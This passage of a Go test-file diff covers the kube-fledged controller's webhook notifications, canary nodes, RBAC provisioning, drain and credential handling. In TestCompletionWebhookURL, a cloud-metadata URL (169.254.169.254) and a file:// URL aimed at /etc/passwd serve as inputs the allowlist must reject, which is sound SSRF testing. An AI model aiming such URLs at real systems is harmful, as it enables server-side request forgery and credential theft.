+		{name: "#2: Summary posted to webhook of controller", controllerWebhook: true, responses: []int{http.StatusNoContent}, expectedAttempts: 1},
+		{name: "#3: Server errors retried", specWebhook: true, responses: []int{http.StatusBadGateway, http.StatusTooManyRequests, http.StatusOK}, expectedAttempts: 3},
+		{name: "#4: Client error not retried", specWebhook: true, responses: []int{http.StatusBadRequest, http.StatusOK}, expectedAttempts: 1},
+		{name: "#5: Attempts exhausted", specWebhook: true, responses: []int{500, 500, 500, 500, 500, 500}, expectedAttempts: completionWebhookAttempts},
+		{name: "#6: No webhook", expectedAttempts: 0},
+		{name: "#7: Host of webhook of image cache not allowed", specWebhook: true, hostNotAllowed: true, responses: []int{http.StatusOK}, expectedAttempts: 0},
+	}
+	for _, test := range tests {
+		summaries := make(chan completionSummary, 10)
+		attempts := 0
+		server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+			var summary completionSummary
+			if err := json.NewDecoder(r.Body).Decode(&summary); err != nil {
+				t.Errorf("Test: %s failed: error decoding summary: %v", test.name, err)
+			}
+			w.WriteHeader(test.responses[attempts])
+			attempts++
+			summaries <- summary
+		}))
+		controller, _, _ := newTestController(fakeclientset.NewSimpleClientset(), kubefledgedclientsetfake.NewSimpleClientset())
+		startTime := metav1.NewTime(time.Now().Add(-time.Minute))
+		imageCache := &kubefledgedv1alpha1.ImageCache{ObjectMeta: metav1.ObjectMeta{Name: "foo", Namespace: fledgedNameSpace}}
+		if test.specWebhook {
+			imageCache.Spec.CompletionWebhook = server.URL
+		}
+		if !test.hostNotAllowed {
+			controller.completionWebhookHosts = []string{"127.0.0.1"}
+		}
+		if test.controllerWebhook {
+			controller.completionWebhook = server.URL
+		}
+		status := &kubefledgedv1alpha1.ImageCacheStatus{
+			Status:    kubefledgedv1alpha1.ImageCacheActionStatusFailed,
+			Reason:    kubefledgedv1alpha1.ImageCacheReasonImageCacheCreate,
+			StartTime: &startTime,
+			Images: []kubefledgedv1alpha1.ImageNodeStatus{
+				{Image: "foo", Node: "bar", Phase: kubefledgedv1alpha1.ImagePhaseCached},
+				{Image: "baz", Node: "bar", Phase: kubefledgedv1alpha1.ImagePhaseFailed},
+			},
+			Failures: map[string]kubefledgedv1alpha1.NodeReasonMessageList{"baz": {{Node: "bar", Reason: "ErrImagePull"}}},
+		}
+		if webhook := controller.completionWebhookURL(imageCache); webhook != "" {
+			controller.notifyCompletion(webhook, imageCache, status)
+		}
+		received := 0
+		timeout := time.After(time.Second)
+	wait:
+		for received < test.expectedAttempts {
+			select {
+			case summary := <-summaries:
+				received++
+				if summary.Name != "foo" || summary.Status != kubefledgedv1alpha1.ImageCacheActionStatusFailed || summary.Counts.Cached != 1 ||
+					summary.Counts.Failed != 1 || len(summary.Failures["baz"]) != 1 || summary.DurationSeconds < 60 {
+					t.Errorf("Test: %s failed: unexpected summary %+v", test.name, summary)
+				}
+			case <-timeout:
+				break wait
+			}
+		}
+		// Attempts beyond the expected ones are not made
+		select {
+		case <-summaries:
+			received++
+		case <-time.After(50 * time.Millisecond):
+		}
+		server.Close()
+		if received != test.expectedAttempts {
+			t.Errorf("Test: %s failed: expectedAttempts=%d, actualAttempts=%d", test.name, test.expectedAttempts, received)
+		}
+	}
+}
+
+func TestCompletionWebhookURL(t *testing.T) {
+	tests := []struct {
+		name              string
+		specWebhook       string
+		controllerWebhook string
+		hosts             []string
+		expectedWebhook   string
+	}{
+		{name: "#1: No webhook", expectedWebhook: ""},
+		{name: "#2: Webhook of controller", controllerWebhook: "https://chatops", expectedWebhook: "https://chatops"},
+		{name: "#3: Host allowed", specWebhook: "https://hooks.example.com/foo", hosts: []string{"hooks.example.com"}, expectedWebhook: "https://hooks.example.com/foo"},
+		{name: "#4: Host and port allowed", specWebhook: "http://hooks:8080/foo", hosts: []string{"hooks:8080"}, expectedWebhook: "http://hooks:8080/foo"},
+		{name: "#5: Port not allowed", specWebhook: "http://hooks:8080/foo", hosts: []string{"hooks:9090"}, expectedWebhook: ""},
+		{name: "#6: Host not allowed, webhook of controller used", specWebhook: "http://169.254.169.254/latest", controllerWebhook: "https://chatops",
+			hosts: []string{"hooks.example.com"}, expectedWebhook: "https://chatops"},
+		{name: "#7: Scheme not allowed", specWebhook: "file://hooks.example.com/etc/passwd", hosts: []string{"hooks.example.com"}, expectedWebhook: ""},
+	}
+	for _, test := range tests {
+		controller, _, _ := newTestController(fakeclientset.NewSimpleClientset(), kubefledgedclientsetfake.NewSimpleClientset())
+		controller.completionWebhook = test.controllerWebhook
+		controller.completionWebhookHosts = test.hosts
+		imageCache := &kubefledgedv1alpha1.ImageCache{
+			ObjectMeta: metav1.ObjectMeta{Name: "foo", Namespace: fledgedNameSpace},
+			Spec:       kubefledgedv1alpha1.ImageCacheSpec{CompletionWebhook: test.specWebhook},
+		}
+		if webhook := controller.completionWebhookURL(imageCache); webhook != test.expectedWebhook {
+			t.Errorf("Test: %s failed: expected %q, actual %q", test.name, test.expectedWebhook, webhook)
+		}
+	}
+}
+
+func TestCompletionTransitioned(t *testing.T) {
+	tests := []struct {
+		name           string
+		reason         string
+		status         kubefledgedv1alpha1.ImageCacheActionStatus
+		notifiedStatus kubefledgedv1alpha1.ImageCacheActionStatus
+		expected       bool
+	}{
+		{name: "#1: Create always notified", reason: kubefledgedv1alpha1.ImageCacheReasonImageCacheCreate, status: kubefledgedv1alpha1.ImageCacheActionStatusSucceeded,
+			notifiedStatus: kubefledgedv1alpha1.ImageCacheActionStatusSucceeded, expected: true},
+		{name: "#2: Refresh with unchanged status", reason: kubefledgedv1alpha1.ImageCacheReasonImageCacheRefresh, status: kubefledgedv1alpha1.ImageCacheActionStatusSucceeded,
+			notifiedStatus: kubefledgedv1alpha1.ImageCacheActionStatusSucceeded, expected: false},
+		{name: "#3: Refresh failed", reason: kubefledgedv1alpha1.ImageCacheReasonImageCacheRefresh, status: kubefledgedv1alpha1.ImageCacheActionStatusFailed,
+			notifiedStatus: kubefledgedv1alpha1.ImageCacheActionStatusSucceeded, expected: true},
+		{name: "#4: Node added with unchanged status", reason: kubefledgedv1alpha1.ImageCacheReasonNodeAdded, status: kubefledgedv1alpha1.ImageCacheActionStatusFailed,
+			notifiedStatus: kubefledgedv1alpha1.ImageCacheActionStatusFailed, expected: false},
+		{name: "#5: Refresh never notified", reason: kubefledgedv1alpha1.ImageCacheReasonImageCacheRefresh, status: kubefledgedv1alpha1.ImageCacheActionStatusSucceeded, expected: true},
+	}
+	for _, test := range tests {
+		imageCache := &kubefledgedv1alpha1.ImageCache{Status: kubefledgedv1alpha1.ImageCacheStatus{NotifiedStatus: test.notifiedStatus}}
+		status := &kubefledgedv1alpha1.ImageCacheStatus{Status: test.status, Reason: test.reason}
+		if actual := completionTransitioned(imageCache, status); actual != test.expected {
+			t.Errorf("Test: %s failed: expected %t, actual %t", test.name, test.expected, actual)
+		}
+	}
+}
+
+func TestAnnotateNodes(t *testing.T) {
+	newNode := func(name, annotation string) *corev1.Node {
+		n := &corev1.Node{ObjectMeta: metav1.ObjectMeta{Name: name, Labels: map[string]string{"kubernetes.io/hostname": name}}}
+		if annotation != "" {
+			n.Annotations = map[string]string{kubefledgedv1alpha1.NodeCachedImagesAnnotationKey: annotation}
+		}
+		return n
+	}
+	statuses := []kubefledgedv1alpha1.ImageNodeStatus{
+		{Image: "foo", Node: "node1", Phase: kubefledgedv1alpha1.ImagePhaseCached},
+		{Image: "bar", Node: "node2", Phase: kubefledgedv1alpha1.ImagePhaseCached},
+		{Image: "baz", Node: "node2", Phase: kubefledgedv1alpha1.ImagePhaseFailed},
+		{Image: "abc", Node: "node2", Phase: kubefledgedv1alpha1.ImagePhaseCached},
+	}
+	tests := []struct {
+		name                string
+		disabled            bool
+		deleted             bool
+		expectedAnnotations map[string]string
+		expectedUpdates     int
+	}{
+		{
+			name: "#1: Cached images merged with other image caches",
+			expectedAnnotations: map[string]string{
+				"node1": `{"kube-fledged/bar":["qux"],"kube-fledged/foo":["foo"]}`,
+				"node2": `{"kube-fledged/foo":["abc","bar"]}`,
+				"node3": `{"kube-fledged/bar":["qux"]}`,
+			},
+			// Entry of node2 is up to date, so node2 is not updated
+			expectedUpdates: 2,
+		},
+		{
+			name:    "#2: Entries removed once image cache is deleted",
+			deleted: true,
+			expectedAnnotations: map[string]string{
+				"node1": `{"kube-fledged/bar":["qux"]}`,
+				"node2": "",
+				"node3": `{"kube-fledged/bar":["qux"]}`,
+			},
+			expectedUpdates: 3,
+		},
+		{
+			name:     "#3: Node annotations disabled",
+			disabled: true,
+			expectedAnnotations: map[string]string{
+				"node1": `{"kube-fledged/bar":["qux"],"kube-fledged/foo":["old"]}`,
+				"node2": `{"kube-fledged/foo":["abc","bar"]}`,
+				"node3": `{"kube-fledged/bar":["qux"],"kube-fledged/foo":["foo"]}`,
+			},
+		},
+	}
+	for _, test := range tests {
+		nodes := []*corev1.Node{
+			newNode("node1", `{"kube-fledged/bar":["qux"],"kube-fledged/foo":["old"]}`),
+			newNode("node2", `{"kube-fledged/foo":["abc","bar"]}`),
+			newNode("node3", `{"kube-fledged/bar":["qux"],"kube-fledged/foo":["foo"]}`),
+		}
+		fakekubeclientset := fakeclientset.NewSimpleClientset(nodes[0], nodes[1], nodes[2])
+		controller, nodeInformer, _ := newTestController(fakekubeclientset, &kubefledgedclientsetfake.Clientset{})
+		controller.nodeAnnotations = !test.disabled
+		for _, n := range nodes {
+			nodeInformer.Informer().GetIndexer().Add(n)
+		}
+		imageCache := &kubefledgedv1alpha1.ImageCache{ObjectMeta: metav1.ObjectMeta{Name: "foo", Namespace: fledgedNameSpace}}
+		if test.deleted {
+			imageCache.DeletionTimestamp = &metav1.Time{Time: time.Now()}
+		}
+		fakekubeclientset.ClearActions()
+		controller.annotateNodes(imageCache, statuses)
+
+		updates := 0
+		for _, action := range fakekubeclientset.Actions() {
+			if action.GetVerb() == "update" {
+				updates++
+			}
+		}
+		if updates != test.expectedUpdates {
+			t.Errorf("Test: %s failed: expected %d node updates, actual %d", test.name, test.expectedUpdates, updates)
+		}
+		for name, expected := range test.expectedAnnotations {
+			n, err := fakekubeclientset.CoreV1().Nodes().Get(name, metav1.GetOptions{})
+			if err != nil {
+				t.Fatalf("Test: %s failed: %v", test.name, err)
+			}
+			if actual := n.Annotations[kubefledgedv1alpha1.NodeCachedImagesAnnotationKey]; actual != expected {
+				t.Errorf("Test: %s failed: node %s: expected annotation %s, actual %s", test.name, name, expected, actual)
+			}
+		}
+	}
+}
+
+func TestCanaryNodes(t *testing.T) {
+	nodes := []*corev1.Node{}
+	for _, name := range []string{"node-c", "node-a", "node-d", "node-b"} {
+		nodes = append(nodes, &corev1.Node{ObjectMeta: metav1.ObjectMeta{Name: name, Labels: map[string]string{"kubernetes.io/hostname": name}}})
+	}
+	tests := []struct {
+		name          string
+		percentage    int32
+		expectedNodes map[string]bool
+	}{
+		{name: "#1: At least one canary node", percentage: 10, expectedNodes: map[string]bool{"node-a": true}},
+		{name: "#2: Canary nodes rounded up", percentage: 30, expectedNodes: map[string]bool{"node-a": true, "node-b": true}},
+		{name: "#3: Half of the nodes", percentage: 50, expectedNodes: map[string]bool{"node-a": true, "node-b": true}},
+	}
+	for _, test := range tests {
+		if selected := canaryNodes(nodes, test.percentage); !reflect.DeepEqual(selected, test.expectedNodes) {
+			t.Errorf("Test: %s failed: expected canary nodes %v, actual %v", test.name, test.expectedNodes, selected)
+		}
+	}
+}
+
+func TestCanaryPending(t *testing.T) {
+	canaryCondition := func(conditionStatus corev1.ConditionStatus) *kubefledgedv1alpha1.ImageCacheStatus {
+		status := &kubefledgedv1alpha1.ImageCacheStatus{}
+		setImageCacheCondition(status, kubefledgedv1alpha1.ImageCacheConditionCanaryPassed, conditionStatus, "", "")
+		return status
+	}
+	tests := []struct {
+		name       string
+		percentage int32
+		purgeOnly  bool
+		workType   images.WorkType
+		status     *kubefledgedv1alpha1.ImageCacheStatus
+		expected   bool
+	}{
+		{name: "#1: No canary", workType: images.ImageCacheCreate, status: &kubefledgedv1alpha1.ImageCacheStatus{}},
+		{name: "#2: Canary on create", percentage: 10, workType: images.ImageCacheCreate, status: &kubefledgedv1alpha1.ImageCacheStatus{}, expected: true},
+		{name: "#3: Canary on update even if passed", percentage: 10, workType: images.ImageCacheUpdate, status: canaryCondition(corev1.ConditionTrue), expected: true},
+		{name: "#4: No canary on refresh once passed", percentage: 10, workType: images.ImageCacheRefresh, status: canaryCondition(corev1.ConditionTrue)},
+		{name: "#5: Canary on refresh after failure", percentage: 10, workType: images.ImageCacheRefresh, status: canaryCondition(corev1.ConditionFalse), expected: true},
+		{name: "#6: No canary on purge", percentage: 10, workType: images.ImageCachePurge, status: &kubefledgedv1alpha1.ImageCacheStatus{}},
+		{name: "#7: No canary of purge-only image cache", percentage: 10, purgeOnly: true, workType: images.ImageCacheCreate, status: &kubefledgedv1alpha1.ImageCacheStatus{}},
+		{name: "#8: No canary with 100 percent", percentage: 100, workType: images.ImageCacheCreate, status: &kubefledgedv1alpha1.ImageCacheStatus{}},
+	}
+	for _, test := range tests {
+		imageCache := &kubefledgedv1alpha1.ImageCache{Spec: kubefledgedv1alpha1.ImageCacheSpec{CanaryPercentage: test.percentage, PurgeOnly: test.purgeOnly}}
+		if pending := canaryPending(imageCache, test.workType, test.status); pending != test.expected {
+			t.Errorf("Test: %s failed: expected canary pending %t, actual %t", test.name, test.expected, pending)
+		}
+	}
+}
+
+func TestValidCABundle(t *testing.T) {
+	configMap := &corev1.ConfigMap{
+		ObjectMeta: metav1.ObjectMeta{Name: "registry-ca", Namespace: "kube-fledged"},
+		Data:       map[string]string{"ca.crt": "-----BEGIN CERTIFICATE-----", "empty.pem": " \n"},
+	}
+	secret := &corev1.Secret{
+		ObjectMeta: metav1.ObjectMeta{Name: "registry-ca", Namespace: "kube-fledged"},
+		Data:       map[string][]byte{"ca.pem": []byte("-----BEGIN CERTIFICATE-----")},
+	}
+	tests := []struct {
+		name     string
+		bundle   kubefledgedv1alpha1.CABundle
+		expected bool
+	}{
+		{name: "#1: ConfigMap with the default key", bundle: kubefledgedv1alpha1.CABundle{ConfigMapName: "registry-ca"}, expected: true},
+		{name: "#2: Secret with a key", bundle: kubefledgedv1alpha1.CABundle{SecretName: "registry-ca", Key: "ca.pem"}, expected: true},
+		{name: "#3: Secret without the default key", bundle: kubefledgedv1alpha1.CABundle{SecretName: "registry-ca"}},
+		{name: "#4: ConfigMap with blank certificates", bundle: kubefledgedv1alpha1.CABundle{ConfigMapName: "registry-ca", Key: "empty.pem"}},
+		{name: "#5: ConfigMap not found", bundle: kubefledgedv1alpha1.CABundle{ConfigMapName: "corp-ca"}},
+	}
+	controller, _, _ := newTestController(fakeclientset.NewSimpleClientset(configMap, secret), kubefledgedclientsetfake.NewSimpleClientset())
+	for _, test := range tests {
+		valid, err := controller.validCABundle(&test.bundle, "kube-fledged")
+		if err != nil || valid != test.expected {
+			t.Errorf("Test: %s failed: expected valid %t, actual %t (err: %v)", test.name, test.expected, valid, err)
+		}
+	}
+}
+
+func TestSyncJobRBAC(t *testing.T) {
+	imageCache := func(namespace, serviceAccountName string) *kubefledgedv1alpha1.ImageCache {
+		return &kubefledgedv1alpha1.ImageCache{
+			ObjectMeta: metav1.ObjectMeta{Name: "foo", Namespace: namespace},
+			Spec:       kubefledgedv1alpha1.ImageCacheSpec{ServiceAccountName: serviceAccountName},
+		}
+	}
+	otherBinding := &rbacv1.RoleBinding{
+		ObjectMeta: metav1.ObjectMeta{Name: "kubefledged-imagecache-foo", Namespace: fledgedNameSpace},
+		Subjects:   []rbacv1.Subject{{Kind: rbacv1.ServiceAccountKind, Name: "gcr-puller", Namespace: fledgedNameSpace}},
+		RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "Role", Name: "kubefledged-imagecache-foo"},
+	}
+	existingRole := &rbacv1.Role{ObjectMeta: metav1.ObjectMeta{Name: "kubefledged-imagecache-foo", Namespace: fledgedNameSpace}}
+	tests := []struct {
+		name                string
+		podSecurityPolicy   string
+		serviceAccounts     []string
+		imageCache          *kubefledgedv1alpha1.ImageCache
+		existing            []runtime.Object
+		expectedName        string
+		expectedSubject     string
+		expectOwnerRef      bool
+		expectedRoleBinding bool
+	}{
+		{
+			name:       "#1: No pod security policy of jobs",
+			imageCache: imageCache(fledgedNameSpace, "ecr-puller"),
+		},
+		{
+			name:                "#2: Role and RoleBinding provisioned",
+			podSecurityPolicy:   "kubefledged",
+			serviceAccounts:     []string{"gcr-puller", "ecr-puller"},
+			imageCache:          imageCache(fledgedNameSpace, "ecr-puller"),
+			expectedName:        "kubefledged-imagecache-foo",
+			expectedSubject:     "ecr-puller",
+			expectOwnerRef:      true,
+			expectedRoleBinding: true,
+		},
+		{
+			name:                "#3: RoleBinding of another service account updated",
+			podSecurityPolicy:   "kubefledged",
+			serviceAccounts:     []string{"ecr-puller"},
+			imageCache:          imageCache(fledgedNameSpace, "ecr-puller"),
+			existing:            []runtime.Object{existingRole, otherBinding},
+			expectedName:        "kubefledged-imagecache-foo",
+			expectedSubject:     "ecr-puller",
+			expectedRoleBinding: true,
+		},
+		{
+			name:              "#4: Role and RoleBinding deleted without service account",
+			podSecurityPolicy: "kubefledged",
+			imageCache:        imageCache(fledgedNameSpace, ""),
+			existing:          []runtime.Object{existingRole, otherBinding},
+			expectedName:      "kubefledged-imagecache-foo",
+		},
+		{
+			name:                "#5: Image cache in another namespace than jobs",
+			podSecurityPolicy:   "kubefledged",
+			serviceAccounts:     []string{"ecr-puller"},
+			imageCache:          imageCache("team-a", "ecr-puller"),
+			expectedName:        "kubefledged-imagecache-team-a-foo",
+			expectedSubject:     "ecr-puller",
+			expectedRoleBinding: true,
+		},
+		{
+			name:              "#6: Role and RoleBinding not provisioned for a service account not approved",
+			podSecurityPolicy: "kubefledged",
+			serviceAccounts:   []string{"gcr-puller"},
+			imageCache:        imageCache(fledgedNameSpace, "ecr-puller"),
+		},
+		{
+			name:              "#7: Role and RoleBinding deleted for a service account not approved",
+			podSecurityPolicy: "kubefledged",
+			imageCache:        imageCache(fledgedNameSpace, "ecr-puller"),
+			existing:          []runtime.Object{existingRole, otherBinding},
+		},
+	}
+	for _, test := range tests {
+		fakekubeclientset := fakeclientset.NewSimpleClientset(test.existing...)
+		controller, _, _ := newTestController(fakekubeclientset, kubefledgedclientsetfake.NewSimpleClientset())
+		controller.jobPodSecurityPolicy = test.podSecurityPolicy
+		controller.jobServiceAccounts = test.serviceAccounts
+		if err := controller.syncJobRBAC(test.imageCache); err != nil {
+			t.Errorf("Test: %s failed: %v", test.name, err)
+			continue
+		}
+		roles, _ := fakekubeclientset.RbacV1().Roles(fledgedNameSpace).List(metav1.ListOptions{})
+		roleBindings, _ := fakekubeclientset.RbacV1().RoleBindings(fledgedNameSpace).List(metav1.ListOptions{})
+		if !test.expectedRoleBinding {
+			if len(roles.Items) != 0 || len(roleBindings.Items) != 0 {
+				t.Errorf("Test: %s failed: expected no roles and role bindings, actual %d, %d", test.name, len(roles.Items), len(roleBindings.Items))
+			}
+			continue
+		}
+		if len(roles.Items) != 1 || len(roleBindings.Items) != 1 {
+			t.Errorf("Test: %s failed: expected a role and a role binding, actual %d, %d", test.name, len(roles.Items), len(roleBindings.Items))
+			continue
+		}
+		role, roleBinding := roles.Items[0], roleBindings.Items[0]
+		expectedRules := []rbacv1.PolicyRule{{APIGroups: []string{"policy"}, Resources: []string{"podsecuritypolicies"}, Verbs: []string{"use"}, ResourceNames: []string{"kubefledged"}}}
+		if role.Name != test.expectedName || !reflect.DeepEqual(role.Rules, expectedRules) {
+			t.Errorf("Test: %s failed: expected role %s with rules %+v, actual %s %+v", test.name, test.expectedName, expectedRules, role.Name, role.Rules)
+		}
+		if roleBinding.Name != test.expectedName || roleBinding.RoleRef.Name != test.expectedName ||
+			len(roleBinding.Subjects) != 1 || roleBinding.Subjects[0].Name != test.expectedSubject || roleBinding.Subjects[0].Namespace != fledgedNameSpace {
+			t.Errorf("Test: %s failed: expected role binding %s of service account %s, actual %+v", test.name, test.expectedName, test.expectedSubject, roleBinding)
+		}
+		if ownerRef := len(role.OwnerReferences) == 1 && len(roleBinding.OwnerReferences) == 1; ownerRef != test.expectOwnerRef {
+			t.Errorf("Test: %s failed: expected owned by image cache %t, actual %t", test.name, test.expectOwnerRef, ownerRef)
+		}
+	}
+}
+
+func TestDrain(t *testing.T) {
+	defer func(interval time.Duration) { drainPollInterval = interval }(drainPollInterval)
+	drainPollInterval = 10 * time.Millisecond
+	tests := []struct {
+		name                string
+		status              kubefledgedv1alpha1.ImageCacheActionStatus
+		completeAfter       time.Duration
+		shutdownGracePeriod time.Duration
+		minDuration         time.Duration
+		maxDuration         time.Duration
+	}{
+		{
+			name:                "#1: No image cache under processing",
+			status:              kubefledgedv1alpha1.ImageCacheActionStatusSucceeded,
+			shutdownGracePeriod: 10 * time.Second,
+			maxDuration:         time.Second,
+		},
+		{
+			name:                "#2: Image cache completes within the grace period",
+			status:              kubefledgedv1alpha1.ImageCacheActionStatusProcessing,
+			completeAfter:       50 * time.Millisecond,
+			shutdownGracePeriod: 10 * time.Second,
+			minDuration:         50 * time.Millisecond,
+			maxDuration:         time.Second,
+		},
+		{
+			name:                "#3: Grace period expires with an image cache under processing",
+			status:              kubefledgedv1alpha1.ImageCacheActionStatusProcessing,
+			shutdownGracePeriod: 100 * time.Millisecond,
+			minDuration:         100 * time.Millisecond,
+			maxDuration:         time.Second,
+		},
+		{
+			name:        "#4: No grace period",
+			status:      kubefledgedv1alpha1.ImageCacheActionStatusProcessing,
+			maxDuration: time.Second,
+		},
+	}
+	for _, test := range tests {
+		fakefledgedclientset := &kubefledgedclientsetfake.Clientset{}
+		controller, _, imagecacheInformer := newTestController(&fakeclientset.Clientset{}, fakefledgedclientset)
+		controller.shutdownGracePeriod = test.shutdownGracePeriod
+		imageCache := kubefledgedv1alpha1.ImageCache{
+			ObjectMeta: metav1.ObjectMeta{Name: "foo", Namespace: "kube-fledged"},
+			Status:     kubefledgedv1alpha1.ImageCacheStatus{Status: test.status},
+		}
+		imagecacheInformer.Informer().GetIndexer().Add(&imageCache)
+		if test.completeAfter > 0 {
+			go func(imageCache kubefledgedv1alpha1.ImageCache) {
+				time.Sleep(test.completeAfter)
+				imageCache.Status.Status = kubefledgedv1alpha1.ImageCacheActionStatusSucceeded
+				imagecacheInformer.Informer().GetIndexer().Update(&imageCache)
+			}(imageCache)
+		}
+		start := time.Now()
+		controller.drain()
+		if d := time.Since(start); d < test.minDuration || d > test.maxDuration {
+			t.Errorf("Test: %s failed: expected drain within %s and %s, actual %s", test.name, test.minDuration, test.maxDuration, d)
+		}
+		if !controller.isDraining() {
+			t.Errorf("Test: %s failed: expected controller to be draining", test.name)
+		}
+		// Image caches are not synced while draining
+		controller.workqueue.Add(images.WorkQueueKey{WorkType: images.ImageCacheUpdate, ObjKey: "kube-fledged/foo"})
+		controller.processNextWorkItem()
+		if len(fakefledgedclientset.Actions()) != 0 {
+			t.Errorf("Test: %s failed: expected no sync of image cache while draining, actual %v", test.name, fakefledgedclientset.Actions())
+		}
+	}
+}
+
+func TestRegistryCredentialsDefaultPullSecret(t *testing.T) {
+	secret := func(name, server string) *corev1.Secret {
+		return &corev1.Secret{
+			ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: fledgedNameSpace},
+			Type:       corev1.SecretTypeDockerConfigJson,
+			Data: map[string][]byte{
+				corev1.DockerConfigJsonKey: []byte(`{"auths":{"` + server + `":{"username":"` + name + `","password":"secret"}}}`),
+			},
+		}
+	}
+	tests := []struct {
+		name              string
+		imageCacheSecrets []corev1.LocalObjectReference
+		imageListSecrets  []corev1.LocalObjectReference
+		expected          map[string]registry.Credentials
+	}{
+		{
+			name:     "#1: Default pull secret used when no secrets are specified",
+			expected: map[string]registry.Credentials{"registry.corp": {Username: "default-creds", Password: "secret"}},
+		},
+		{
+			name:              "#2: Secrets of the image cache override the default pull secret",
+			imageCacheSecrets: []corev1.LocalObjectReference{{Name: "cache-creds"}},
+			expected:          map[string]registry.Credentials{"cache.corp": {Username: "cache-creds", Password: "secret"}},
+		},
+		{
+			name:             "#3: Secrets of the image list override the default pull secret",
+			imageListSecrets: []corev1.LocalObjectReference{{Name: "list-creds"}},
+			expected:         map[string]registry.Credentials{"list.corp": {Username: "list-creds", Password: "secret"}},
+		},
+	}
+	for _, test := range tests {
+		fakekubeclientset := fakeclientset.NewSimpleClientset(secret("default-creds", "registry.corp"), secret("cache-creds", "cache.corp"), secret("list-creds", "list.corp"))
+		controller, _, _ := newTestController(fakekubeclientset, &kubefledgedclientsetfake.Clientset{})
+		controller.defaultPullSecret = "default-creds"
+		imageCache := &kubefledgedv1alpha1.ImageCache{
+			ObjectMeta: metav1.ObjectMeta{Name: "foo", Namespace: fledgedNameSpace},
+			Spec:       kubefledgedv1alpha1.ImageCacheSpec{ImagePullSecrets: test.imageCacheSecrets},
+		}
+		actual := controller.registryCredentials(imageCache, test.imageListSecrets, map[string]*corev1.Secret{})
+		if !reflect.DeepEqual(actual, test.expected) {
+			t.Errorf("Test: %s failed: expected %+v, actual %+v", test.name, test.expected, actual)
+		}
+	}
+}
+
+func TestImageWorkJitterRateLimiter(t *testing.T) {
+	const baseDelay, window = time.Millisecond, time.Minute
+	node := &corev1.Node{ObjectMeta: metav1.ObjectMeta{Name: "node1"}}
+	tests := []struct {
+		name     string
+		window   time.Duration
+		item     interface{}
+		minDelay time.Duration
+		maxDelay time.Duration
+	}{
+		{
+			name:     "#1: Image work request not delayed when window is 0",
+			item:     images.ImageWorkRequest{Image: "foo", Node: node},
+			minDelay: baseDelay,
+			maxDelay: baseDelay,
+		},
+		{
+			name:     "#2: Image work request delayed by a jitter within the window",
+			window:   window,
+			item:     images.ImageWorkRequest{Image: "foo", Node: node},
+			minDelay: baseDelay,
+			maxDelay: baseDelay + window - 1,
+		},
+		{
+			name:     "#3: Status update request delayed by the whole window",
+			window:   window,
+			item:     images.ImageWorkRequest{WorkType: images.ImageCacheCreate},
+			minDelay: baseDelay + window,
+			maxDelay: baseDelay + window,
+		},
+		{
+			name:     "#4: Other items not delayed",
+			window:   window,
+			item:     "foo",
+			minDelay: baseDelay,
+			maxDelay: baseDelay,
+		},
+	}
+	for _, test := range tests {
+		rateLimiter := newImageWorkJitterRateLimiter(workqueue.NewItemExponentialFailureRateLimiter(baseDelay, time.Second), test.window)
+		if delay := rateLimiter.When(test.item); delay < test.minDelay || delay > test.maxDelay {
+			t.Errorf("Test: %s failed: expected delay between %v and %v, actual %v", test.name, test.minDelay, test.maxDelay, delay)
+		}
+		if rateLimiter.NumRequeues(test.item) != 1 {
+			t.Errorf("Test: %s failed: expected 1 requeue, actual %d", test.name, rateLimiter.NumRequeues(test.item))
+		}
+	}
+}
+
+func TestDiscoverPodImages(t *testing.T) {
+	pod := func(name, namespace string, phase corev1.PodPhase, containerImages ...string) *corev1.Pod {
+		p := &corev1.Pod{
+			ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: namespace},
+			Spec:       corev1.PodSpec{InitContainers: []corev1.Container{{Name: "init", Image: "busybox"}}},
+			Status:     corev1.PodStatus{Phase: phase},
+		}
+		for _, image := range containerImages {
+			p.Spec.Containers = append(p.Spec.Containers, corev1.Container{Image: image})
+		}
+		return p
+	}
+	pods := []*corev1.Pod{
+		pod("web", "shop", corev1.PodRunning, "nginx:1.21", "envoy:1.20"),
+		pod("api", "shop", corev1.PodRunning, "api:v2", "envoy:1.20"),
+		pod("migrate", "shop", corev1.PodSucceeded, "migrate:v2"),
+		pod("db", "data", corev1.PodRunning, "postgres:14"),
+	}
+	lastDiscovered := []kubefledgedv1alpha1.DiscoveredPodImages{{Namespace: "shop", Images: []string{"api:v1"}}}
+	tests := []struct {
+		name       string
+		watchPods  bool
+		namespaces []string
+		expected   []kubefledgedv1alpha1.DiscoveredPodImages
+	}{
+		{
+			name:       "#1: Images of running pods of namespace discovered",
+			watchPods:  true,
+			namespaces: []string{"shop"},
+			expected:   []kubefledgedv1alpha1.DiscoveredPodImages{{Namespace: "shop", Images: []string{"api:v2", "busybox", "envoy:1.20", "nginx:1.21"}}},
+		},
+		{
+			name:       "#2: Namespace of multiple image lists discovered once",
+			watchPods:  true,
+			namespaces: []string{"data", "shop", "data"},
+			expected: []kubefledgedv1alpha1.DiscoveredPodImages{{Namespace: "data", Images: []string{"busybox", "postgres:14"}},
+				{Namespace: "shop", Images: []string{"api:v2", "busybox", "envoy:1.20", "nginx:1.21"}}},
+		},
+		{
+			name:       "#3: Namespace without pods",
+			watchPods:  true,
+			namespaces: []string{"empty"},
+			expected:   []kubefledgedv1alpha1.DiscoveredPodImages{{Namespace: "empty", Images: []string{}}},
+		},
+		{
+			name:       "#4: Images last discovered retained if pods are not watched",
+			namespaces: []string{"shop"},
+			expected:   lastDiscovered,
+		},
+		{
+			name:     "#5: No image lists with images from pods",
+			expected: []kubefledgedv1alpha1.DiscoveredPodImages{},
+		},
+	}
+	for _, test := range tests {
+		fakekubeclientset := &fakeclientset.Clientset{}
+		controller, _, _ := newTestController(fakekubeclientset, &kubefledgedclientsetfake.Clientset{})
+		if test.watchPods {
+			podInformer := kubeinformers.NewSharedInformerFactory(fakekubeclientset, noResyncPeriodFunc()).Core().V1().Pods()
+			for _, pod := range pods {
+				podInformer.Informer().GetIndexer().Add(pod)
+			}
+			controller.podIndexer = podInformer.Informer().GetIndexer()
+		}
+		imageCache := &kubefledgedv1alpha1.ImageCache{
+			ObjectMeta: metav1.ObjectMeta{Name: "foo", Namespace: fledgedNameSpace},
+			Spec:       kubefledgedv1alpha1.ImageCacheSpec{CacheSpec: []kubefledgedv1alpha1.CacheSpecImages{{Images: []string{"redis"}}}},
